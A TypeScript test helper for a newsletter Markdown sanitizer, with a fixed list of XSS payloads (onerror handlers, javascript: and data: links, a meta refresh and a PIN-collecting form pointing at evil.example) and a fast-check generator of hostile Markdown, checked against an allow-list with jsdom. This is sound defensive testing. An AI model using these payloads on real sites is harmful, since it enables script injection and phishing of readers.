/**
 * For tests only: Markdown an attacker would write (fixed payloads and a fast-check generator),
 * and the check that HTML holds nothing outside NEWSLETTER_HTML, made by a real HTML parser as
 * the console's preview parses it (a <div>'s innerHTML).
 */
import { createRequire } from "node:module";
import fc from "fast-check";
import { isMailPictureAddress } from "./mail-pictures";
import { NEWSLETTER_HTML } from "./markdown-render";

/** Found by an attack run: the text after an inline <kbd>, <code>, <pre> or <script> came through. */
export const REPORTED_ATTACK = "x <kbd> <img/src=x onerror=alert(1)>";

/** One payload per way in that was tried, each of them small enough to be sent together. */
export const ATTACKS: readonly string[] = [
  REPORTED_ATTACK,
  "x <code> <iframe/src=javascript:alert(1)>",
  "x <pre> <svg/onload=alert(1)>",
  "x <script> <meta/http-equiv=refresh content=0;url=https://evil.example>",
  "x <kbd>\n\nlater <a/href=https://evil.example/ style=position:fixed;inset:0>Sign in</a>",
  "x <KBD > <form/action=https://evil.example><input/name=pin></form>",
  "x <code> <math><mi xlink:href=javascript:alert(1)>m</mi></math>",
  "<img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<object data=javascript:alert(1)></object>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<div>\n<img src=x onerror=alert(1)>\n</div>",
  "<!--\n--><img src=x onerror=alert(1)>",
  "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](&#106;avascript:alert(1))",
  "[x](<java\tscript:alert(1)>) [x]( javascript:alert(1)) [x](javascript&colon;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:msgbox(1))",
  "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
  "[x][evil]\n\n[evil]: javascript:alert(1)",
  "[x](//evil.example) [x](/relative) [x](#top)",
  "![pixel](https://tracker.example/p.gif) ![x](javascript:alert(1))",
  '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
  '```js"><script>alert(1)</script>\ncode\n```',
  "- [ ] <img src=x onerror=alert(1)>\n- [x] done",
  "| <img src=x onerror=alert(1)> | b |\n|-|-|\n| <kbd> <img/src=y onerror=alert(2)> | d |",
  "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62; &#x3c;svg/onload=alert(1)&#x3e;",
  "`<script>` <kbd>`x`</kbd> <img/src=z onerror=alert(3)>",
];

/**
 * Every way `html` goes beyond NEWSLETTER_HTML: elements, attributes, link schemes, pictures
 * that are not the media library's mail size or lack their alt text, styles, comments.
 */
export function allowListViolations(html: string): string[] {
  const container = parse(html);
  const violations: string[] = [];
  const walker = container.ownerDocument.createTreeWalker(
    container,
    0x1 | 0x80 /* elements, comments */,
  );
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.nodeType === 8) {
      violations.push(`comment <!--${node.textContent}-->`);
      continue;
    }
    const element = node as Element;
    const tag = element.localName;
    const inHtml = element.namespaceURI === "http://www.w3.org/1999/xhtml";
    if (!inHtml || !(NEWSLETTER_HTML.tags as readonly string[]).includes(tag)) {
      violations.push(`element <${tag}>`);
    }
    const allowed = NEWSLETTER_HTML.attributes[tag] ?? [];
    for (const { name, value } of element.attributes) {
      if (!allowed.includes(name)) violations.push(`attribute ${name} on <${tag}>`);
      else if (name === "href" && !allowedLink(value)) violations.push(`link to ${value}`);
      else if (name === "src" && !isMailPictureAddress(value)) violations.push(`picture ${value}`);
      else if (name === "style" && value !== NEWSLETTER_HTML.styles[tag]) {
        violations.push(`style ${value} on <${tag}>`);
      }
    }
    if (tag === "img" && !element.getAttribute("alt")?.trim()) {
      violations.push("picture without alt text");
    }
  }
  return violations;
}

/**
 * The newsletter's own HTML in a sent e-mail: the one element between the frame's heading (the
 * subject) and its footer (a rule, the unsubscribe line, the company's line: the layout and
 * newsletter-mail.tsx of mail/emails/). Throws when the frame is not whole, as it would not be if
 * the content had swallowed the footer.
 */
export function newsletterHtmlOf(messageHtml: string): string {
  const heading = parse(messageHtml).querySelector("h1");
  const nodes = [...(heading?.parentElement?.childNodes ?? [])];
  const elements = nodes.filter((node): node is Element => node.nodeType === 1);
  const [first, content] = elements;
  const [rule, unsubscribe, company] = elements.slice(-3);
  if (
    !heading ||
    first !== heading ||
    elements.length !== 5 ||
    content?.localName !== "div" ||
    rule?.localName !== "hr" ||
    !unsubscribe?.textContent?.includes("Unsubscribe") ||
    company?.localName !== "p"
  ) {
    throw new Error(`Not a whole newsletter e-mail: ${messageHtml}`);
  }
  return content.innerHTML;
}

/**
 * The link's scheme as a browser finds it (control characters and spaces around it, tabs and line
 * breaks within, ignored) is one of the allowed ones. A link without a scheme leads somewhere
 * relative to wherever the e-mail is read, so it is refused too.
 */
function allowedLink(href: string): boolean {
  // \p{Cc} is a little more than the C0 controls a browser strips: stricter, never looser.
  const cleaned = href.replace(/^[\p{Cc} ]+|[\p{Cc} ]+$/gu, "").replace(/[\t\n\r]/g, "");
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(cleaned)?.[1]?.toLowerCase();
  return scheme !== undefined && (NEWSLETTER_HTML.schemes as readonly string[]).includes(scheme);
}

// jsdom is CommonJS without types of its own; this is all of it the check needs.
const { JSDOM } = createRequire(import.meta.url)("jsdom") as {
  JSDOM: new (html: string) => { window: Window };
};
let document: Document | null = null;

function parse(html: string): HTMLElement {
  document ??= new JSDOM("<!doctype html><body>").window.document;
  const container = document.createElement("div");
  container.innerHTML = html;
  return container;
}

// The generator. Each piece is a way HTML or a link might get through; documents are blocks of
// them, joined by one or two line breaks, and sometimes inside quotes and lists.

const TAGS = [
  ...["kbd", "code", "pre", "script", "style", "iframe", "img", "svg", "math", "meta", "form"],
  ...["a", "object", "base", "link", "template", "textarea", "xmp", "noscript", "title", "div"],
  ...["plaintext", "embed", "select", "option", "table", "td", "p", "span", "input", "button"],
];
const ATTRIBUTES = [
  "onerror=alert(1)",
  'onload="alert(1)"',
  "style=position:fixed;inset:0;z-index:99",
  "href=javascript:alert(1)",
  'href="JaVaScRiPt:alert(1)"',
  "href=https://evil.example/",
  'srcset="x 1x, javascript:alert(1) 2x"',
  "src=x",
  'http-equiv=refresh content="0;url=https://evil.example"',
  "formaction=javascript:alert(1)",
  "xlink:href=javascript:alert(1)",
  "class=fixed",
  "id=x",
];
const SCHEMES = [
  ...["javascript:", "JaVaScRiPt:", "data:", "vbscript:", "java\tscript:", "java&#x09;script:"],
  ...["&#106;avascript:", "jav&#x61;script:", " javascript:", "\u0001javascript:", "file:"],
  ...["javascript&colon;", "java%73cript:", "http:", "https:", "HTTPS:", "mailto:", "//", "/"],
  ...["#", "ftp:", "", "www."],
];
const DESTINATIONS = [
  "alert(1)",
  "//evil.example/x",
  "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "ama@example.com",
  'x"onmouseover=alert(1)',
  "x'y",
  "x)y(",
  "<x>",
  "x y",
];
const ENTITIES = [
  ...["&lt;", "&#60;", "&#x3c;", "&#X3C;", "&LT;", "&lt", "&#60", "&#0000060;", "&amp;lt;"],
  ...["&gt;", "&quot;", "&apos;", "&nbsp;", "&bogus;", "&#;", "&#x;", "&#xD800;", "&#0;"],
  ...["&#1114112;", "&colon;", "&Tab;", "&NewLine;"],
];

const word = fc.constantFrom("Akwaaba", "mobile money", "GH₵ 5", "x", "a_b", "*", "_", "\\<", "|");
const tag = fc.constantFrom(...TAGS);
const openTag = fc
  .tuple(
    fc.constantFrom("<", "<", "</"),
    tag,
    fc.array(fc.tuple(fc.constantFrom(" ", "/", "\t", "\n"), fc.constantFrom(...ATTRIBUTES)), {
      maxLength: 2,
    }),
    fc.constantFrom(">", "/>", "", " ", "\n>", " /", "/"),
  )
  .map(
    ([open, name, attributes, close]) =>
      open + name + attributes.map(([space, attribute]) => space + attribute).join("") + close,
  );
const malformed = fc.constantFrom(
  "<img/src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<<script>>",
  "<scr<script>ipt>",
  "</p><script>",
  "<!-->",
  "<!-- x -->",
  "<![CDATA[<script>]]>",
  "<?xml x?>",
  "<!doctype html>",
  "<img src=`x`onerror=alert(1)>",
  "<a\thref=javascript:alert(1)>",
  "< img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
);
const url = fc
  .tuple(fc.constantFrom(...SCHEMES), fc.constantFrom(...DESTINATIONS))
  .map(([scheme, rest]) => scheme + rest);
const label = fc.oneof(word, openTag, malformed, fc.constantFrom(...ENTITIES));
const link = fc.oneof(
  fc.tuple(label, url).map(([text, href]) => `[${text}](${href})`),
  fc.tuple(label, url, word).map(([text, href, title]) => `[${text}](${href} "${title}")`),
  fc.tuple(label, url).map(([text, href]) => `[${text}](<${href}>)`),
  fc.tuple(label, url).map(([text, href]) => `![${text}](${href})`),
  url.map((href) => `<${href}>`),
  url,
  fc.tuple(label, url).map(([text, href]) => `[${text}][ref]\n\n[ref]: ${href}`),
);
const styled = fc
  .tuple(fc.constantFrom("*", "**", "_", "__", "~~", "`", "``"), label)
  .map(([mark, text]) => `${mark}${text}${mark}`);
const inline = fc.oneof(
  { arbitrary: word, weight: 3 },
  { arbitrary: openTag, weight: 3 },
  malformed,
  fc.constantFrom(...ENTITIES),
  link,
  styled,
);
const line = fc
  .array(fc.tuple(inline, fc.constantFrom(" ", "", " ")), { minLength: 1, maxLength: 8 })
  .map((pieces) => pieces.map(([piece, space]) => piece + space).join(""));

const block = fc.oneof(
  { arbitrary: line, weight: 4 },
  line.map((text) => `# ${text}`),
  fc
    .array(line, { minLength: 1, maxLength: 3 })
    .map((items) => items.map((i) => `- ${i}`).join("\n")),
  fc
    .array(line, { minLength: 1, maxLength: 3 })
    .map((items) => items.map((i) => `1. ${i}`).join("\n")),
  line.map((text) => `- [ ] ${text}`),
  line.map((text) => `> ${text}`),
  fc
    .tuple(fc.constantFrom("", "js", 'x"><img src=x onerror=alert(1)>'), line)
    .map(([lang, text]) => `\`\`\`${lang}\n${text}\n\`\`\``),
  line.map((text) => `    ${text}`),
  fc.tuple(line, line).map(([a, b]) => `| ${a} | b |\n|---|:-:|\n| c | ${b} |`),
  fc
    .tuple(fc.constantFrom("div", "script", "pre", "table", "kbd"), line)
    .map(([name, text]) => `<${name}>\n${text}\n</${name}>`),
  line.map((text) => `<!--\n${text}\n-->`),
);
const nested = fc
  .tuple(fc.array(fc.constantFrom("> ", "- ", "1. ", "  "), { maxLength: 3 }), block)
  .map(([prefixes, text]) =>
    prefixes.length
      ? text
          .split("\n")
          .map((l) => prefixes.join("") + l)
          .join("\n")
      : text,
  );

/** Markdown mixing HTML, entities, links of every scheme, and every block of our Markdown. */
export const attackMarkdown: fc.Arbitrary<string> = fc
  .array(fc.tuple(nested, fc.constantFrom("\n\n", "\n")), { minLength: 1, maxLength: 8 })
  .map((blocks) =>
    blocks
      .map(([text, gap]) => text + gap)
      .join("")
      .trim(),
  );
